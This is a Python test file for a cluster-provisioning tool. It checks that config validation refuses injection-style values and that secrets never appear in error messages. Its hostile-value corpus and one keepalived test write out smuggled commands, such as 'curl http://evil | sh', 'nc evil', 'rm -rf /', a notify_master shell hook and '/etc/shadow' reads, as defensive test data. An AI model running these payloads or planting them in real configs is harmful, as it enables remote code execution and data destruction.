"""Hostile and mistaken config values never reach a shell, a host file, a path or a cloud resource name.

Every key whose value goes there refuses each value of a corpus of hostile ones (`;`, `$()`, backticks,
newlines, `..`, spaces, quotes, non-ASCII...) with exactly one ConfigError naming that key, before anything
is declared. The host files rendered from the most unusual values the allow-lists accept keep the structure
of the plain ones (no injected directive), commands quote what they interpolate, and a secret never
appears in an error.
"""

from __future__ import annotations

import copy
import itertools
import re
import shlex
from pathlib import Path
from typing import Any

import pytest
import yaml

from components.config import ClusterConfig, ConfigError
from components.facts import cluster_facts
from components.render import backup, etcd, loadbalancer
from components.render.etcd import Member
from components.render.firewall import FirewallPeers, nftables_config
from components.stack_file import StackFileError, read_stack
from components.topology import plan
from components.validation import load
from kcp_host.contract import AGENT, BACKUP_SSH_KEY, parse_env_text
from tests.program import ROOT, stack_config

LOCAL = stack_config(ROOT / "stacks" / "Pulumi.local.yaml")
GCE = stack_config(ROOT / "stacks" / "Pulumi.gce-example.yaml")
AWS = copy.deepcopy(stack_config(ROOT / "stacks" / "Pulumi.aws-example.yaml"))
AWS["aws"] |= {"publicApi": False, "subnetIds": [f"subnet-0123456789abcdef{i}" for i in range(3)]}

HOSTILE: list[str] = [
    'eth0\nnotify_master "/bin/sh -c id"',  # the reported keepalived injection
    "eth0\n    notify_master /tmp/x",
    "h1\n    server evil 192.0.2.66:6443",  # an HAProxy backend of one's own
    "10.0.0.0/24 }\n    chain input { accept",  # an nftables rule of one's own
    "x; rm -rf /",
    "x && curl http://evil | sh",
    "x || true",
    "x | nc evil 1",
    "$(id)",
    "`id`",
    "${IFS}id",
    "$HOME",
    "x>/etc/passwd",
    "x</etc/shadow",
    "x&",
    "x\ny",
    "x\r\ny",
    "x\ry",
    "x\n",  # a trailing newline slips past `^...$` with re.match
    "x\x00y",
    "x\ty",
    "x\x1b[31m",
    "x\x7f",
    "x y",
    " x",
    "x ",
    "",
    "..",
    "../../etc/passwd",
    "/srv/../etc",
    "/srv/./x",
    "//srv",
    "~root",
    "'x'",
    '"x"',
    "x'y",
    'x"y',
    "x\\y",
    "x*",
    "x?",
    "x#comment",
    "{a,b}",
    "x,y",
    "x=y",
    "x%0ay",
    "-oProxyCommand=id",
    "--help",
    "10.0.0.0/24,0.0.0.0/0",
    "10.0.0.1 10.0.0.2",
    "r\u00e3ck",  # non-ASCII
    "\u0435th0",  # a Cyrillic ie: a look-alike of eth0
    "\uff45\uff54\uff43",  # fullwidth 'etc'
    "x\u200by",  # zero-width space
    "x\u2028y",  # Unicode line separator
    "x\u0085y",  # NEL
    "a" * 300,
]

# Every string key that reaches a shell, a host file, a path or a cloud resource name, with a stack it is
# valid in. The key is written as the error names it.
KEYS: list[tuple[str, dict[str, Any]]] = [
    ("target", LOCAL), ("clusterName", LOCAL), ("kubernetesVersion", LOCAL), ("resilience", LOCAL),
    ("zones[0]", LOCAL), ("etcd.version", LOCAL), ("etcd.placement", LOCAL), ("etcd.disk", LOCAL),
    ("etcd.source", LOCAL), ("network.podCidr", LOCAL), ("network.serviceCidr", LOCAL),
    ("network.adminCidrs[0]", LOCAL), ("network.clusterDomain", LOCAL),
    ("baremetal.user", LOCAL), ("baremetal.sshPrivateKeyPath", LOCAL), ("baremetal.apiVip", LOCAL),
    ("baremetal.vipInterface", LOCAL), ("baremetal.operatorCidrs[0]", LOCAL),
    ("baremetal.hosts[0].name", LOCAL), ("baremetal.hosts[0].address", LOCAL), ("baremetal.hosts[0].zone", LOCAL),
    ("baremetal.hosts[0].roles[0]", LOCAL), ("baremetal.spares[0].name", LOCAL),
    ("baremetal.spares[0].address", LOCAL), ("baremetal.backupHost.address", LOCAL),
    ("baremetal.backupHost.path", LOCAL), ("baremetal.backupHost.user", LOCAL),
    ("zones[1]", GCE), ("apiServers.machineType", GCE), ("etcd.machineType", GCE), ("gce.project", GCE),
    ("gce.region", GCE), ("gce.network", GCE), ("gce.subnetwork", GCE), ("gce.image", GCE), ("gce.subnetCidr", GCE),
    ("zones[2]", AWS), ("apiServers.machineType", AWS), ("etcd.machineType", AWS), ("aws.region", AWS),
    ("aws.vpcCidr", AWS), ("aws.subnetIds[1]", AWS),
]
_PART = re.compile(r"([A-Za-z]+)|\[(\d+)\]")


def _put(cfg: dict[str, Any], key: str, value: Any) -> None:
    """Set `baremetal.hosts[0].name`-style keys, creating sections that are missing."""
    parts: list[str | int] = [int(i) if i else name for name, i in _PART.findall(key)]
    node: Any = cfg
    for part, following in itertools.pairwise(parts):
        node = node[part] if isinstance(part, int) else node.setdefault(part, [] if isinstance(following, int) else {})
    node[parts[-1]] = value


def _refused(cfg: dict[str, Any]) -> ConfigError:
    with pytest.raises(ConfigError) as caught:
        load(cfg)
    message = str(caught.value)
    assert message.count("config key") == 1 and message.isascii() and message.isprintable(), message
    return caught.value


def test_the_corpus_has_at_least_forty_distinct_hostile_values() -> None:
    assert len(set(HOSTILE)) == len(HOSTILE) >= 40


@pytest.mark.parametrize("value", HOSTILE, ids=[f"{i:02d}-{ascii(v)[1:25]}" for i, v in enumerate(HOSTILE)])
@pytest.mark.parametrize(("key", "base"), KEYS, ids=[f"{k}@{b['target']}" for k, b in KEYS])
def test_a_hostile_value_is_refused_with_one_error_naming_its_key(key: str, base: dict[str, Any], value: str) -> None:
    cfg = copy.deepcopy(base)
    _put(cfg, key, value)
    error = _refused(cfg)
    assert error.key == key, f"{value!a} in {key}: {error}"


def test_the_reported_keepalived_injection_is_refused_before_anything_is_rendered() -> None:
    cfg = copy.deepcopy(LOCAL)
    cfg["baremetal"]["vipInterface"] = 'eth0\n    notify_master "/bin/sh -c \'curl evil | sh\'"'
    assert _refused(cfg).key == "baremetal.vipInterface"


@pytest.mark.parametrize(("path", "cluster", "why"), [
    ("/srv/../etc", "local", "a '..' segment"), ("/srv/./etcd", "local", "a '.' segment"),
    ("/srv/etcd/", "local", "a trailing slash"), ("srv/etcd", "local", "relative"),
    ("/srv//etcd", "local", "an empty segment"), ("/srv/.ssh", "local", "a hidden segment"),
    ("/etc", "local", "the backup user would own /etc/local"), ("/usr/local", "local", "inside /usr"),
    ("/var", "lib", "the backup user would own /var/lib"), ("/", "etc", "not a folder of names"),
    ("/etc/systemd", "system", "the backup user would write root's units"),
    ("/home", "local", "the cluster folder would be a home directory"),
    ("/tmp/backups", "local", "world-writable /tmp"),
])
def test_backup_path_is_an_absolute_normalized_folder_outside_system_directories(path: str, cluster: str,
                                                                                  why: str) -> None:
    cfg = copy.deepcopy(LOCAL)
    cfg["clusterName"] = cluster
    cfg["baremetal"]["backupHost"]["path"] = path
    assert _refused(cfg).key == "baremetal.backupHost.path", why


@pytest.mark.parametrize("user", ["root", "operator"])
def test_backup_user_is_a_user_of_its_own(user: str) -> None:
    """Setup replaces the backup user's authorized_keys with a forced command: never root's or the login user's."""
    cfg = copy.deepcopy(LOCAL)
    cfg["baremetal"] |= {"user": "operator"}
    cfg["baremetal"]["backupHost"]["user"] = user
    assert _refused(cfg).key == "baremetal.backupHost.user"


@pytest.mark.parametrize(("key", "value"), [
    ("baremetal.vipInterface", "enp1s0.100"), ("baremetal.vipInterface", "br-lan_0"),
    ("baremetal.user", "_deploy-01"), ("baremetal.backupHost.user", "etcd-backup"),
    ("baremetal.backupHost.path", "/srv/etcd-backups"), ("baremetal.backupHost.path", "/var/backups/etcd"),
    ("baremetal.backupHost.path", "/home/etcd-backup/snapshots"), ("baremetal.backupHost.path", "/data/x..y"),
    ("baremetal.sshPrivateKeyPath", "/home/me/.ssh/id_ed25519"), ("baremetal.sshPrivateKeyPath", "keys/id+ops@x"),
    ("network.clusterDomain", "cluster.local"), ("network.clusterDomain", "k8s.0x.example"),
])
def test_ordinary_values_are_still_accepted(key: str, value: str) -> None:
    cfg = copy.deepcopy(LOCAL)
    _put(cfg, key, value)
    assert load(cfg)


@pytest.mark.parametrize(("base", "key", "value"), [
    (GCE, "gce.image", "projects/ubuntu-os-cloud/global/images/family/ubuntu-2404-lts-amd64"),
    (GCE, "gce.image", "projects/my-project/global/images/golden-2026-01"), (GCE, "gce.image", "family/debian-12"),
    (GCE, "apiServers.machineType", "n2-custom-4-8192"), (GCE, "gce.project", "example.com:my-project"),
    (AWS, "etcd.machineType", "i4i.2xlarge"), (AWS, "apiServers.machineType", "u-6tb1.metal"),
])
def test_ordinary_cloud_values_are_still_accepted(base: dict[str, Any], key: str, value: str) -> None:
    cfg = copy.deepcopy(base)
    _put(cfg, key, value)
    assert load(cfg)


# -- rendered host files ---------------------------------------------------------------------------

def _edge_values(cfg: dict[str, Any]) -> None:
    """The most unusual values the allow-lists accept: longest names, every allowed punctuation mark."""
    long_name = lambda first: first + "-0" * 30 + "z9"  # noqa: E731  (63 characters)
    cfg["clusterName"] = "e-d-g-e-0123456789az"
    cfg["network"] |= {"clusterDomain": "0x.k-8.s", "adminCidrs": ["0.0.0.0/0", "255.255.255.255/32"]}
    bm = cfg["baremetal"]
    bm |= {"user": "_u-0", "vipInterface": "_Eth0.100-vla_n", "operatorCidrs": ["0.0.0.0/1", "128.0.0.0/1"]}
    bm["backupHost"] |= {"path": "/srv/A.b_c-d/x..y", "user": "_" + "b-" * 15 + "z"}
    for i, host in enumerate(bm["hosts"]):
        host["name"] = long_name("abc"[i])
    bm["spares"][0]["name"] = long_name("s")


def _rendered(cfg: ClusterConfig) -> dict[str, str]:
    """Every host file and command a config value reaches on bare metal, as the target renders them."""
    assert cfg.baremetal is not None
    bm, topology = cfg.baremetal, plan(cfg)
    addresses = {m.name: m.address or "" for m in (*topology.machines, *topology.spares)}
    dest = backup.ssh_destination(bm.backup_host.user, bm.backup_host.address, bm.backup_host.path, cfg.cluster_name)
    cluster = cluster_facts(cfg, topology, addresses, bm.api_vip, dest, BACKUP_SSH_KEY)
    member = lambda m: Member(m.name, m.address or "")  # noqa: E731
    lbs = [member(m) for m in topology.load_balancers]
    peers = FirewallPeers(tuple(bm.operator_cidrs), tuple(cfg.network.admin_cidrs), tuple(addresses.values()),
                          tuple(m.address for m in lbs), tuple(addresses.values()), (bm.backup_host.address,),
                          tuple(addresses.values()))
    return {
        "keepalived.conf": loadbalancer.keepalived_config(cfg.cluster_name, bm.api_vip, bm.vip_interface, lbs[0], lbs),
        "haproxy.cfg": loadbalancer.haproxy_config(bm.api_vip, [member(m) for m in topology.api_servers],
                                                   cluster.members, cluster.spares),
        "firewall.nft": nftables_config(peers),
        "etcd.env": etcd.etcd_env(cluster.etcd, cluster.members[0], cluster.members),
        "cluster.env": etcd.cluster_env(cluster.etcd, cluster.members[0], cluster.members),
        "etcd.service": etcd.etcd_unit(cfg.cluster_name),
        **{Path(p).name: text for p, text in backup.backup_host_files(
            cfg.cluster_name, dest, 30, True, BACKUP_SSH_KEY).items()},
        "authorized_keys": backup.backup_receiver_authorized_key(
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE0 etcd-backup", bm.backup_host.path, cfg.cluster_name, 4, 3),
    }


def _skeleton(text: str) -> list[str]:
    """What a line is: its directive (first word, or an env file's KEY=), not its values."""
    return [line.split("=", 1)[0] + "=" if re.match(r"[A-Z_]+=", line) else (line.split() or [""])[0]
            for line in text.splitlines()]


@pytest.fixture(scope="module")
def edge_and_plain() -> tuple[dict[str, str], dict[str, str], ClusterConfig]:
    edge = copy.deepcopy(LOCAL)
    _edge_values(edge)
    cfg = load(edge)
    return _rendered(cfg), _rendered(load(LOCAL)), cfg


@pytest.mark.parametrize("name", ["keepalived.conf", "haproxy.cfg", "firewall.nft", "etcd.env", "cluster.env",
                                  "etcd.service", "backup.env", "etcd-backup.service", "etcd-backup.timer",
                                  "authorized_keys"])
def test_host_files_from_edge_values_keep_the_structure_of_plain_ones(
        edge_and_plain: tuple[dict[str, str], dict[str, str], ClusterConfig], name: str) -> None:
    edge, plain, _ = edge_and_plain
    assert _skeleton(edge[name]) == _skeleton(plain[name]), edge[name]
    assert edge[name].isascii() and "notify_" not in edge[name]
    assert all(line.isprintable() for line in edge[name].splitlines())


def test_env_files_from_edge_values_read_back_as_written(
        edge_and_plain: tuple[dict[str, str], dict[str, str], ClusterConfig]) -> None:
    edge, _, cfg = edge_and_plain
    assert parse_env_text(edge["cluster.env"])["KCP_CLUSTER_NAME"] == cfg.cluster_name
    assert parse_env_text(edge["etcd.env"])["ETCD_NAME"] == "a" + "-0" * 30 + "z9"
    assert cfg.baremetal is not None and cfg.baremetal.backup_host.path in parse_env_text(edge["backup.env"])[
        "KCP_BACKUP_DEST"]


def test_keepalived_names_the_interface_exactly_where_expected(
        edge_and_plain: tuple[dict[str, str], dict[str, str], ClusterConfig]) -> None:
    edge, _, _ = edge_and_plain
    lines = [line.strip() for line in edge["keepalived.conf"].splitlines()]
    assert "interface _Eth0.100-vla_n" in lines
    assert "10.250.0.100/24 dev _Eth0.100-vla_n" in lines


def test_the_authorized_keys_forced_command_reads_back_as_one_receiver_call(
        edge_and_plain: tuple[dict[str, str], dict[str, str], ClusterConfig]) -> None:
    edge, _, _ = edge_and_plain
    command = re.fullmatch(r'restrict,command="([^"]*)" ssh-ed25519 \S+ \S+\n', edge["authorized_keys"])
    assert command is not None
    words = shlex.split(command[1])
    assert words[:4] == [AGENT, "etcd-backup-receive", "--root", "/srv/A.b_c-d/x..y/e-d-g-e-0123456789az"]
    assert words[4:8] == ["--retain-recent", "4", "--retain-daily", "3"]


@pytest.mark.parametrize(("interface", "name"), [('eth0\n    notify_master "/tmp/x"', "h1"),
                                                 ("eth0", "h1\n    notify_master /tmp/x"), ("\u0435th0", "h1")])
def test_templates_refuse_a_value_that_would_leave_its_line(interface: str, name: str) -> None:
    """Defence in depth behind validation: a renderer called with such a value fails rather than writes it."""
    me = Member(name, "10.0.0.11")
    with pytest.raises(ValueError, match="printable ASCII only"):
        loadbalancer.keepalived_config("c", "10.0.0.100", interface, me, [me, Member("h2", "10.0.0.12")])


def test_commands_quote_what_they_interpolate(declared_edge: Any) -> None:
    """With the edge values, every command of the bare-metal target still splits into the words it means."""
    commands = {r.name: r.inputs.get("create", "") for r in declared_edge.of_type("command:remote:Command")}
    receiver = next(c for n, c in commands.items() if n.endswith("-backup-receiver"))
    assert shlex.split(receiver) == [AGENT, "backup-host-setup", "_" + "b-" * 15 + "z",
                                     "/srv/A.b_c-d/x..y/e-d-g-e-0123456789az"]
    membership = next(c for n, c in commands.items() if n.endswith("-membership"))
    words = shlex.split(membership)
    assert words[:2] == [AGENT, "etcd-reconcile-members"] and len(words) == 4
    firewall = next(c for n, c in commands.items() if n.endswith("-firewall"))
    assert shlex.split(firewall)[-2:] == ["firewall-apply", "--operators=0.0.0.0/1,128.0.0.0/1"]


@pytest.fixture(scope="module")
def declared_edge(throwaway_ssh_key: Path) -> Any:
    from tests.conftest import stack_for_tests
    from tests.program import run_program
    cfg = stack_for_tests(ROOT / "stacks" / "Pulumi.local.yaml", throwaway_ssh_key)
    _edge_values(cfg)
    return run_program(cfg, stack="local")


# -- secrets never appear in an error --------------------------------------------------------------

def _private_key() -> str:
    """A throwaway key made at run time: no key material lives in the repository."""
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ed25519
    return ed25519.Ed25519PrivateKey.generate().private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.OpenSSH, serialization.NoEncryption()).decode()


KEY = _private_key()
PASSPHRASE = "correct-horse-battery-staple-7f3a"  # a secret that does not look like one


def _without_path(cfg: dict[str, Any]) -> dict[str, Any]:
    cfg["baremetal"].pop("sshPrivateKeyPath")
    return cfg


SECRET_MISTAKES: list[tuple[str, Any]] = [
    # (case, edit of the local stack whose value is the secret)
    ("misspelt-key", lambda c, s: c["baremetal"].update(sshPrivateKy=s)),
    ("misspelt-key-alone", lambda c, s: _without_path(c)["baremetal"].update(sshPrivateKy=s)),
    ("wrong-case", lambda c, s: c["baremetal"].update(sshprivatekey=s)),
    ("snake-case-typo", lambda c, s: c["baremetal"].update(ssh_private_ky=s)),
    ("at-top-level", lambda c, s: c.update(sshPrivateKey=s)),
    ("in-another-section", lambda c, s: c["etcd"].update(sshPrivateKey=s)),
    ("as-a-mapping", lambda c, s: _without_path(c)["baremetal"].update(sshPrivateKey={"value": s})),
    ("as-a-list", lambda c, s: _without_path(c)["baremetal"].update(sshPrivateKey=[s])),
    ("in-a-host-entry", lambda c, s: c["baremetal"]["hosts"][0].update(sshPrivateKey=s)),
    ("both-set", lambda c, s: c["baremetal"].update(sshPrivateKey=s)),
]


@pytest.mark.parametrize("secret", [KEY, PASSPHRASE], ids=["private-key", "passphrase"])
@pytest.mark.parametrize("edit", [m[1] for m in SECRET_MISTAKES], ids=[m[0] for m in SECRET_MISTAKES])
def test_a_secret_never_appears_in_a_config_error(edit: Any, secret: str) -> None:
    cfg = copy.deepcopy(LOCAL)
    edit(cfg, secret)
    _assert_not_shown(_refused(cfg), secret)


def _assert_not_shown(error: ConfigError, secret: str) -> None:
    """Neither the message nor anything the error carries (its value, a chained exception) holds the secret,
    nor any line of a key's body."""
    texts = [str(error), ascii(error.value), repr(error.value), repr(error.__context__), repr(error.__cause__)]
    for fragment in [secret, *(line for line in secret.splitlines() if "PRIVATE KEY" not in line)]:
        assert not any(fragment in text for text in texts), fragment


def test_a_wrongly_typed_secret_is_not_shown() -> None:
    cfg = _without_path(copy.deepcopy(LOCAL))
    cfg["baremetal"]["sshPrivateKey"] = 4242424242424242
    error = _refused(cfg)
    assert error.key == "baremetal.sshPrivateKey" and "4242424242424242" not in str(error)


@pytest.mark.parametrize("key", ["baremetal.sshPrivateKeyPath", "baremetal.user", "baremetal.hosts[0].name",
                                 "baremetal.vipInterface", "clusterName", "zones[0]"])
def test_key_material_pasted_into_another_key_is_not_shown(key: str) -> None:
    cfg = copy.deepcopy(LOCAL)
    _put(cfg, key, KEY)
    error = _refused(cfg)
    assert error.key == key
    _assert_not_shown(error, KEY)


def test_key_material_as_a_key_name_is_not_shown() -> None:
    cfg = copy.deepcopy(LOCAL)
    cfg["baremetal"][KEY] = True
    _assert_not_shown(_refused(cfg), KEY)


def test_an_unknown_key_name_is_shown_on_one_line() -> None:
    cfg = copy.deepcopy(LOCAL)
    cfg["etcd"]["x\nnotify_master /tmp/x"] = 1
    error = _refused(cfg)
    assert error.key == "etcd.'x\\nnotify_master /tmp/x'"


def test_a_stack_file_with_a_misspelt_secret_is_refused_without_showing_it(tmp_path: Path) -> None:
    stack = yaml.safe_load((ROOT / "stacks" / "Pulumi.local.yaml").read_text())
    stack["config"]["resilient-control-plane:baremetal"]["sshPrivateKy"] = KEY
    path = tmp_path / "Pulumi.leaky.yaml"
    path.write_text(yaml.safe_dump(stack))
    with pytest.raises(StackFileError) as caught:
        read_stack(path)
    assert "'baremetal.sshPrivateKy'" in str(caught.value) and "(not shown" in str(caught.value)
    assert not any(line in str(caught.value) for line in KEY.splitlines() if "PRIVATE KEY" not in line)
